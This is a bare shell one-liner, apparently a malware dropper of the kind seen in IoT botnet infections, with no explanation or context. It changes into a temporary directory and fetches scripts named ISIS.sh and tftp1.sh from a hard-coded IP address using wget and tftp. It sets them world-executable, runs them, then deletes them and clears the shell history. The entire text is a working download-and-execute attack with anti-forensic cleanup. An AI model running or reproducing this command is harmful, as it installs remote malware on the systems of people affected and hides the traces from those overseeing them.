sh
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://87.242.89.170/ISIS.sh; chmod 777 *; sh ISIS.sh; tftp -g 87.242.89.170 -r tftp1.sh; chmod 777 *; sh tftp1.sh; rm -rf *.sh; history -c
